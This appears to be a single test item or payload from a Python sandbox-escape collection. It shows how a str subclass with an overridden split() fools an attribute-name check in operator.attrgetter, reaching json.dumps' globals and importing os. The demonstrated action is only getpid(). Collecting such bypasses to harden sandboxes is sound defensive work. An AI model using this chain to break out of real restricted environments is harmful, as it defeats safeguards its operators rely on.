# technique: a str subclass with its own split() passed attrgetter's per-part check
# expect: any
import operator, json
class S(str):
    def split(self, *a):
        return ["ok"]
g = operator.attrgetter(S("__globals__"))(json.dumps)
(sorted(g)[:5], g["__builtins__"]["__import__"]("os").getpid())
